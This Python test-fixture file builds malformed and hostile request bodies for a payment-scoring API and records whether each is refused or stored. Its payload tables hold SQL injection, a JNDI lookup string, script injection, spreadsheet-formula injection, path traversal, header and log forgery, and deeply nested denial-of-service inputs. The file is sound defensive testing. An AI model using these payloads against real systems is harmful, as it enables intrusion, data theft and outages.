"""Bodies of `POST /v1/score` that are wrong, odd or meant to do harm, and what must become of each.

Data for every door that takes transactions: sections A to E of the input list of the test plan, numbers in brackets.
A case is refused with one of its `statuses`, or taken and kept as `kept` says. It is
over the house limit because it is one table.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

BASE: Mapping[str, Any] = {
    "transaction_id": "a-plain-one",
    "event_time": "2026-11-01T10:00:00+00:00",
    "amount": "25.00",
    "currency": "EUR",
    "transaction_type": "payment",
    "customer_id": "customer-1",
    "ip_address": "81.2.69.160",
}
REFUSED = frozenset({400, 422})
NO_JSON, NO_TRANSACTION, TOO_LARGE = frozenset({400}), frozenset({422}), frozenset({413})
CARD = "4111111111111111"


@dataclass(frozen=True)
class Case:
    """One body. `kept` is a place, its keys joined by dots, and the value it has when the transaction is read again."""

    name: str
    body: bytes
    statuses: frozenset[int] = REFUSED
    kept: tuple[str, Any] | None = None
    sent: tuple[str, ...] = field(default=())
    """What must not be repeated in an answer that refuses it, nor in a log."""
    parses: bool = False
    """Whether it is a transaction all the same, and refused for another reason."""

    @property
    def transaction_id(self) -> str:
        """Return the id of a body that is taken."""
        return str(json.loads(self.body)["transaction_id"])


def filled(place: str, raw: str, transaction_id: str) -> bytes:
    """Return the plain body with the JSON text `raw` at `place`."""
    mark = "\ufffc"
    *outer, last = place.split(".")
    value: Any = {last: mark}
    for name in reversed(outer):
        value = {name: value}
    text = json.dumps({**BASE, "transaction_id": transaction_id, **value}, ensure_ascii=False)
    return text.replace(f'"{mark}"', raw).encode("utf-8", "surrogatepass")


def refused(place: str, values: Mapping[str, str], statuses: frozenset[int] = REFUSED) -> Iterator[Case]:
    """Make a case of each JSON text in `values`, all of which are refused at `place`."""
    for name, raw in values.items():
        body = filled(place, raw, f"{place} {name}"[:64].strip())
        yield Case(f"{name} in {place}", body, statuses, sent=tuple({raw.strip('"'), text_of(raw)}))


def kept(place: str, values: Mapping[str, tuple[str, Any]]) -> Iterator[Case]:
    """Make a case of each JSON text in `values`, with the value that is kept at `place`."""
    for name, (raw, value) in values.items():
        body = filled(place, raw, f"{place} {name}"[:64].strip())
        yield Case(
            f"{name} in {place}", body, kept=(place, value), sent=tuple({raw.strip('"'), text_of(raw)})
        )


def text_of(raw: str) -> str:
    """Return the text that `raw` stands for, or `raw` where it is none."""
    try:
        value = json.loads(raw)
    except (ValueError, RecursionError):
        return raw
    return value if isinstance(value, str) else raw


def as_json(texts: Mapping[str, str]) -> dict[str, str]:
    return {name: json.dumps(text, ensure_ascii=False) for name, text in texts.items()}


def as_kept(texts: Mapping[str, str]) -> dict[str, tuple[str, str]]:
    return {name: (json.dumps(text, ensure_ascii=False), text) for name, text in texts.items()}


def plain(transaction_id: str, **changes: Any) -> str:  # noqa: ANN401 - any JSON value
    return json.dumps({**BASE, "transaction_id": transaction_id, **changes})


def numbers() -> Iterator[Case]:
    """A: amounts and other numbers."""
    no_json = {
        "NaN [1]": "NaN", "Infinity [2]": "Infinity", "-Infinity [3]": "-Infinity", "10^400 [15]": "1" + "0" * 400,
        "5001 digits [16]": "7" * 5001, "leading zeros [17]": "007", "hex [18]": "0x10", "underscore [19]": "1_000",
        "4299 digits [30]": "8" * 4299, "a huge exponent": "1e999999999", "plus": "+5", "no digit before": ".5",
        "no digit after": "5.", "1e401": "1e401", "a fraction of 100 digits": "0." + "3" * 100,
    }  # fmt: skip
    no_amount = {
        "NaN text [4]": '"NaN"', "inf text [5]": '"inf"', "1e400 [6]": "1e400", "1e400 text [7]": '"1e400"', "1e308 [8]": "1e308",
        "negative [10]": "-5", "negative text [10]": '"-5.00"', "1e-320 [12]": "1e-320",
        "more digits than a float [13]": "0.1000000000000000055511151231257827",
        "more digits than a float text [13]": '"0.1000000000000000055511151231257827"', "1.005 [14]": "1.005", "1.005 text [14]": '"1.005"',
        "hex text [18]": '"0x10"', "underscore text [19]": '"1_000"', "spaces [20]": '" 5 "', "arabic digit [21]": '"٥"',
        "fullwidth digit [22]": '"５"', "thousands [23]": '"1,000.50"', "true [24]": "true", "null [25]": "null", "list [26]": "[]",
        "object [27]": "{}", "2^53+1 [28]": "9007199254740993", "2^63 [29]": "9223372036854775808", "empty text": '""',
        "nul": '"5\\u0000"', "minus zero text": '"-0"', "exponent text": '"1e2"',
    }  # fmt: skip
    taken = {
        "minus zero [9]": ("-0.0", "0.00"), "0 [11]": ("0", "0.00"), "leading zeros text [17]": ('"007"', "7.00"),
        "the largest": ('"10000000000000.00"', "10000000000000.00"), "cents": ("0.01", "0.01"), "1e2": ("1e2", "100.00"),
        "a float that is not exact": ("0.29", "0.29"), "padded": ("10.10000000000000000000000000000", "10.10"),
    }  # fmt: skip
    yield from refused("amount", no_json, NO_JSON)
    yield from refused("amount", no_amount, NO_TRANSACTION)
    yield from kept("amount", taken)
    for place in ("metadata.count", "location.latitude"):
        yield from refused(place, no_json, NO_JSON)
        for name in (
            "1e400 [6]",
            "1e308 [8]",
            "more digits than a float [13]",
            "list [26]",
            "object [27]",
            "2^63 [29]",
        ):
            yield from refused(place, {name: no_amount[name]}, NO_TRANSACTION)
    yield from kept("metadata.count", {
        "15 nines": ("999999999999999", 999999999999999), "a float": ("0.30000000000000004", 0.30000000000000004),
        "minus zero": ("-0.0", 0.0), "small": ("1e-300", 1e-300), "negative": ("-7", -7), "true": ("true", True), "text": ('"5"', "5"),
    })  # fmt: skip
    yield from kept("location.latitude", {
        "a float": ("52.520006599999995", 52.520006599999995), "90": ("90", 90.0), "minus zero": ("-0.0", 0.0),
    })  # fmt: skip
    yield Case("a number as currency", filled("currency", "978", "n1"), NO_TRANSACTION)
    yield Case(
        "units without decimals",
        plain("n2", currency="JPY", amount="999999999999999").encode(),
        kept=("amount", "999999999999999"),
    )
    yield Case("cents of yen", plain("n3", currency="JPY", amount="1.5").encode(), NO_TRANSACTION)


def texts_of_json() -> Iterator[Case]:
    """B: what is no JSON, or JSON that parsers read in more than one way."""
    good = plain("b")
    nested = {depth: "[" * depth + "]" * depth for depth in (500, 1000, 30_000)}
    wrong: dict[str, bytes | str] = {
        "empty [35]": "", "blank [35]": " \n", "truncated [38]": good[:-9], "trailing garbage [39]": good + " x", "two values [39]": good + good,
        "comment [40]": "/* c */" + good, "line comment [40]": good.replace(",", ", // c\n", 1), "single quotes [41]": good.replace('"', "'"),
        "trailing comma [42]": good[:-1] + ",}", "unquoted key": good.replace('"amount"', "amount"), "a raw newline": good.replace("customer-1", "a\nb"),
        "a raw nul": good.replace("customer-1", "a\0b"), "a bad escape": good.replace("customer-1", "a\\x41"), "nul around": good + "\0",
        "invalid UTF-8 [49]": good.encode().replace(b"customer-1", b"a\xffb"), "overlong UTF-8 [50]": good.encode().replace(b"customer-1", b"a\xc0\xafb"),
        "an encoded surrogate [54]": good.encode().replace(b"customer-1", b"a\xed\xa0\x80b"), "byte order mark [51]": "\ufeff" + good,
        "UTF-16 [52]": good.encode("utf-16"), "UTF-16 without a mark [52]": good.encode("utf-16-le"), "UTF-32 [53]": good.encode("utf-32"),
        "duplicate keys [31]": good.replace('"amount": "25.00"', '"amount": 1, "amount": 999999'),
        "duplicate keys, escaped [31]": good.replace('"amount": "25.00"', '"amount": "1", "\\u0061mount": "999999"'),
        "duplicate keys within [31]": filled("metadata", '{"a": 1, "a": 2}', "b"), "duplicate keys, equal [31]": good[:-1] + ', "amount": "25.00"}',
        "duplicate unknown keys [31]": good[:-1] + ', "x": 1, "x": 1}', "open brackets [44]": "[" * 60_000, "open objects [45]": '{"a":' * 12_000,
        **{f"nested {depth} deep [43, 44]": text for depth, text in nested.items()},
    }  # fmt: skip
    for name, wrong_body in wrong.items():
        body = wrong_body if isinstance(wrong_body, bytes) else wrong_body.encode()
        yield Case(
            name,
            body,
            sent=(body.decode("utf-8", "replace"),) if len(body) > 12 and "nested" not in name else (),
        )
    keys = (
        "is_admin", "risk_score", "tenant_id", "institution_id", "decision_id", "outcome", "amount_minor", "body", "canonical", "__class__",
        "__proto__", "constructor", "__init__", "model_config", "Amount", "amount ", "a\u0300mount", "\u0430mount", "amount\u0000", "",
        "x" * 5000, "<script>alert(1)</script>", CARD, "../../etc/passwd", "\u202eamount",
    )  # fmt: skip
    for key in keys:
        yield Case(
            f"the key {key[:20]!r} [32, 33, 56]",
            plain("b", **{key: "planted-value-7391"}).encode(),
            NO_TRANSACTION,
            sent=("planted-value-7391", key),
        )
    for name in ("transaction_id", "event_time", "amount", "currency", "transaction_type", "customer_id"):
        without = {key: value for key, value in BASE.items() if key != name}
        yield Case(f"no {name} [34]", json.dumps(without).encode(), NO_TRANSACTION)
    for name, text in {
        "array [36]": f"[{good}]", "empty array [36]": "[]", "text [37]": '"planted-value-7391"', "number": "7", "null": "null", "true": "true",
        "many numbers [46]": "[" + "0," * 30_000 + "0]", "many keys [47]": json.dumps({**BASE, **{f"k{number}": 0 for number in range(5000)}}),
        "many keys in metadata [47]": plain("b", metadata={f"k{number}": 0 for number in range(3000)}), "many objects [45]": "[" + "{}," * 20_000 + "{}]",
        "a lone surrogate as key [54]": good[:-1] + ', "\\ud800": 1}',
    }.items():  # fmt: skip
        yield Case(name, text.encode(), NO_TRANSACTION, sent=("planted-value-7391",))
    yield Case(
        "a long text [48]",
        plain("b", customer_id="planted" * 9000).encode(),
        NO_TRANSACTION,
        sent=("planted" * 9000,),
    )
    for name, text in {
        "a text of 1 MB [48]": plain("b", customer_id="planted" * 150_000), "an array of a million [46]": "[" + "0," * 1_000_000 + "0]",
        "nested 100,000 deep [44]": "[" * 100_000, "100,000 objects [45]": '{"a":' * 100_000, "100,000 keys [47]": json.dumps({f"k{number}": 0 for number in range(100_000)}),
    }.items():  # fmt: skip
        yield Case(name, text.encode(), TOO_LARGE, sent=("planted" * 9,))


HARMFUL_TEXT = {
    "homoglyphs [59]": "раураl", "SQL [63]": "' OR 1=1--", "SQL command [64]": "'; DROP TABLE decisions;--", "percent nul [65]": "%00%n%s%x",
    "JNDI [65]": "${jndi:ldap://x.example/a}", "template [65]": "{{7*7}}", "script [66]": "<script>alert(1)</script>", "link [66]": "javascript:alert(1)",
    "SVG [66]": "<svg onload=alert(1)>", "formula [67]": "=cmd|' /C calc'!A0", "plus [67]": "+1+1", "minus [67]": "-1+1", "at [67]": "@SUM(1)",
    "path [68]": "../../etc/passwd", "Windows path [68]": "..\\..\\boot.ini", "one character [69]": "a", "64 characters [69]": "a" * 64, "emoji [70]": "😀👩🏽",
    "combining [70]": "Z" + "\u0334\u0300" * 30, "Turkish I [71]": "İSTANBULı", "sharp s [71]": "STRASSEß", "ligature": "ﬁn", "null text [72]": "null",
    "undefined [72]": "undefined", "true text [72]": "true", "NFC [56]": "\u00e9", "NFD [56]": "e\u0301", "quotes": "\"'`\\", "key injection": 'x","amount":"1',
    "Hebrew": "שלום", "Chinese": "交易", "spaces": " a  b ", "dots": "..", "slash": "/", "a UUID": "550e8400-e29b-41d4-a716-446655440000",
}  # fmt: skip
INVISIBLE_TEXT = {
    "bidi override [57]": "abc\u202egnp.exe", "bidi isolate [57]": "abc\u2066x\u2069", "zero width [58]": "pay\u200bpal", "joiner [58]": "a\u200db",
    "soft hyphen": "pay\u00adpal", "CRLF and a header [60]": "abc\r\nX-Forged: y", "ANSI escape [61]": "\x1b[31mred\x1b[0m", "log forgery [62]": "x\n2026-11-02 INFO all is well",
    "tab [67]": "\t=1+1", "carriage return [67]": "\r=1+1", "NUL [55]": "a\0b", "next line": "a\x85b", "line separator": "a\u2028b", "byte order mark": "\ufeffa",
    "private use": "a\ue000", "noncharacter": "a\uffff", "tag": "a\U000e0041", "empty [69]": "", "Zalgo [70]": "Z" + "\u0300" * 1000, "long [69]": "longtext" * 1000,
    "a card [73]": CARD, "a card in groups [73]": "4111 1111 1111 1111", "a card in a sentence [73]": "paid by 4111-1111-1111-1111, thanks", "an Amex [73]": "378282246310005",
    "a card in full width [73]": "４１１１１１１１１１１１１１１１", "a card after letters [73]": f"tok_{CARD}",
    "a card with commas [73]": "4111,1111,1111,1111", "a card with bars [73]": "4111|1111|1111|1111", "a card with quotes [73]": '4111"1111"1111"1111',
    "a card with colons [73]": "4111:1111:1111:1111", "a card in brackets [73]": "pan (4111)(1111)(1111)(1111)", "a card digit by digit [73]": "card 4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1",
    "a card between letters [73]": "x4111 1111 1111 1111x", "a card far apart [73]": "card 4111    1111    1111    1111", "a card in circles [73]": "④①①①①①①①①①①①①①①①",
    "a card in superscript [73]": "⁴¹¹¹ ¹¹¹¹ ¹¹¹¹ ¹¹¹¹", "a card in circled pairs [73]": "㊶⑪⑪⑪⑪⑪⑪⑪",
}  # fmt: skip
NUMERIC_TEXT = {
    f"{number!r} {name}": frame.format(number)
    for number in ("5", "-0", "1.5", "1_000", "1e300", "007", "9" * 24)
    for name, frame in {
        "and a newline": "{}\n", "and a line separator": "{}\u2028", "after a tab": "\t{}", "after spaces and a newline": "  \n{}",
        "and a soft hyphen": "{}\xad", "and NUL": "{}\0", "after zeros": "0" * 300 + "{}",
    }.items()
}  # fmt: skip
NUMERIC_TEXT |= {
    "300 nines": "9" * 300,
    "4400 nines": "9" * 4400,
    "true and a newline": "true\n",
    "nan and a newline": "nan\n",
}
FREE_PLACES = (
    "customer_id",
    "merchant_id",
    "payment_method.card_token",
    "user_agent",
    "location.city",
    "metadata.note",
)


def texts() -> Iterator[Case]:
    """C: texts, wherever they are free."""
    for place in FREE_PLACES:
        yield from kept(place, as_kept(HARMFUL_TEXT))
        yield from refused(place, as_json(INVISIBLE_TEXT), NO_TRANSACTION)
        surrogates = {
            "lone surrogate [54]": '"\\ud800"',
            "reversed surrogates [54]": '"\\udc00\\ud800"',
            "number": "5",
            "list": '["a"]',
            "true": "true",
        }
        if place == "metadata.note":
            surrogates = {
                name: raw for name, raw in surrogates.items() if "surrogate" in name or name == "list"
            }
        yield from refused(place, surrogates, NO_TRANSACTION)
    yield from refused("metadata.note", as_json(NUMERIC_TEXT), NO_TRANSACTION)
    for name, text in HARMFUL_TEXT.items():
        body = filled("transaction_id", json.dumps(text, ensure_ascii=False), "t")
        yield Case(f"{name} as transaction_id", body, kept=("transaction_id", text))
    yield from refused("transaction_id", as_json(INVISIBLE_TEXT), NO_TRANSACTION)
    yield from refused("customer_id", {"65 characters [69]": json.dumps("a" * 65)}, NO_TRANSACTION)
    yield from kept(
        "email",
        as_kept(
            {
                "Turkish [71]": "İ@example.org",
                "a sharp s [71]": "straße@example.org",
                "a tag": "a+b@example.org",
            }
        ),
    )
    yield from refused("email", as_json({
        "no at": "planted-value-7391", "two ats": "a@b@example.org", "CRLF [60]": "a@example.org\r\nBcc: b@example.org", "a card [73]": f"{CARD}@example.org",
        "a name": "Eve <eve@example.org>", "long": "a" * 300 + "@example.org",
    }), NO_TRANSACTION)  # fmt: skip
    yield from refused(
        "phone_number",
        as_json({"letters": "call me maybe now", "a card [73]": CARD, "CRLF": "+49 30\r\n123456"}),
        NO_TRANSACTION,
    )
    yield from refused(
        "metadata.number",
        {"a card as number [73]": "378282246310005", "a card as decimal [73]": "378282246310005.0"},
        NO_TRANSACTION,
    )
    for key in ("<script>", "__proto__", "a b", "A", "k" * 65, f"k{CARD}", "=1+1", "é"):
        yield Case(
            f"the metadata key {key[:20]!r}",
            plain("c", metadata={key: 1}).encode(),
            NO_TRANSACTION,
            sent=(key,),
        )
    for place in ("transaction_type", "channel", "billing_country", "currency"):
        yield from refused(
            place,
            as_json(
                {
                    name: INVISIBLE_TEXT[name]
                    for name in ("bidi override [57]", "NUL [55]", "long [69]", "a card [73]")
                }
            ),
            NO_TRANSACTION,
        )


def times() -> Iterator[Case]:
    """D: times."""
    yield from refused("event_time", {
        "naive [74]": '"2026-11-01T10:00:00"', "date only [75]": '"2026-11-01"', "epoch [76]": "1767225600", "epoch ms [77]": "1767225600000",
        "epoch text [76]": '"1767225600"', "huge [78]": "9" * 60, "inf [80]": '"inf"', "year 0 [81]": '"0000-01-01T00:00:00Z"',
        "the last year, west [82]": '"9999-12-31T23:59:59-12:00"', "the first year, east [82]": '"0001-01-01T00:00:00+14:00"', "leap second [83]": '"2016-12-31T23:59:60Z"',
        "+25:00 [84]": '"2026-11-01T10:00:00+25:00"', "February 30 [85]": '"2026-02-30T10:00:00Z"',
        "no seconds": '"2026-11-01T10:00Z"', "space before": '" 2026-11-01T10:00:00Z"', "fullwidth": '"２０２６-11-01T10:00:00Z"', "week date": '"2026-W45-1T10:00:00Z"',
        "zone name": '"2026-11-01T10:00:00 Europe/Berlin"', "seven fraction digits": '"2026-11-01T10:00:00.1234567Z"', "true": "true", "null": "null",
        "list": "[]", "newline": '"2026-11-01T10:00:00Z\\n"', "24:00": '"2026-11-01T24:00:00Z"', "long": '"' + "2026-" * 900 + '"',
    }, NO_TRANSACTION)  # fmt: skip
    yield Case(
        "far ahead [86] in event_time",
        filled("event_time", '"2998-11-01T10:00:00Z"', "ahead"),
        NO_TRANSACTION,
        parses=True,
    )
    yield from refused("event_time", {"NaN [79]": "NaN", "Infinity [79]": "Infinity"}, NO_JSON)
    yield from kept("event_time", {
        "far past [87]": ('"1971-01-01T00:00:00Z"', "1971-01-01T00:00:00+00:00"), "clock set forward [88]": ('"2026-03-29T02:30:00+01:00"', "2026-03-29T02:30:00+01:00"),
        "clock set back, first [88]": ('"2025-10-26T02:30:00+02:00"', "2025-10-26T02:30:00+02:00"), "clock set back, second [88]": ('"2025-10-26T02:30:00+01:00"', "2025-10-26T02:30:00+01:00"),
        "out of order [89]": ('"2026-10-31T10:00:00Z"', "2026-10-31T10:00:00+00:00"), "the same microsecond [89]": ('"2026-11-01T10:00:00.000001Z"', "2026-11-01T10:00:00.000001+00:00"),
        "the same microsecond again [89]": ('"2026-11-01T10:00:00.000001Z"', "2026-11-01T10:00:00.000001+00:00"), "leap day": ('"2024-02-29T23:59:59+14:00"', "2024-02-29T23:59:59+14:00"),
        "an offset that is no hour": ('"2026-10-31T10:00:00.1-05:30"', "2026-10-31T10:00:00.100000-05:30"), "small letters": ('"2026-10-31t10:00:00z"', "2026-10-31T10:00:00+00:00"),
    })  # fmt: skip


def addresses() -> Iterator[Case]:
    """E: network addresses."""
    # ruff: noqa: S104
    reserved = (
        "127.0.0.1", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "169.254.169.254", "0.0.0.0", "224.0.0.1", "240.0.0.1", "255.255.255.255",
        "192.0.2.1", "198.51.100.1", "203.0.113.1", "198.18.0.1", "::1", "::", "fc00::1", "fe80::1", "64:ff9b::7f00:1", "2002:7f00:1::", "2001:db8::1", "::7f00:1",
    )  # fmt: skip
    yield from kept(
        "ip_address", {f"{address} [90-97, 100]": (f'"{address}"', address) for address in reserved}
    )
    yield from kept("ip_address", {
        "mapped [99]": ('"::ffff:10.0.0.1"', "10.0.0.1"), "mapped, hexadecimal [99]": ('"::ffff:a00:1"', "10.0.0.1"), "capitals": ('"2001:0DB8:0:0::A"', "2001:db8::a"),
        "dotted end": ('"64:ff9b::127.0.0.1"', "64:ff9b::7f00:1"),
    })  # fmt: skip
    yield from refused("ip_address", as_json({
        "zone [98]": "fe80::1%eth0", "script as zone [98]": "fe80::1%<script>alert(1)</script>", "octal [102]": "0177.0.0.1", "short [102]": "127.1", "hex [102]": "0x7f.1",
        "hex quad [102]": "0x7f.0.0.1", "leading zero [102]": "081.2.69.160", "port [103]": "1.2.3.4:80", "prefix [103]": "1.2.3.4/32", "path [103]": "1.2.3.4/../admin-console",
        "256 [104]": "255.255.255.256", "three parts [104]": "1.2.3", "five parts": "1.2.3.4.5", "empty [104]": "", "host name [104]": "metadata.internal.example",
        "chain [105]": "203.0.113.7, 10.0.0.1, 127.0.0.1", "a long chain [105]": ", ".join(["203.0.113.7"] * 1000), "brackets [105]": "[2001:db8::1]", "brackets and port [105]": "[2001:db8::1]:443",
        "space": " 1.2.3.4", "newline": "1.2.3.4\n", "nul": "1.2.3.4\0", "fullwidth": "１.2.3.4", "arabic digits": "٨١.٢.٦٩.١٦٠", "ideographic dots": "81。2。69。160", "number text [101]": "2130706433",
        "two compressions": "2001::db8::1", "nine groups": "1:2:3:4:5:6:7:8:9", "five digits": "12345::", "sign": "+1.2.3.4",
    }), NO_TRANSACTION)  # fmt: skip
    yield from refused(
        "ip_address",
        {"integer [101]": "2130706433", "true": "true", "list": '["1.2.3.4"]', "object": "{}"},
        NO_TRANSACTION,
    )


SECTIONS = {"numbers": numbers, "JSON": texts_of_json, "texts": texts, "times": times, "addresses": addresses}


def cases(section: str) -> list[Case]:
    """Return the cases of one section."""
    return list(SECTIONS[section]())
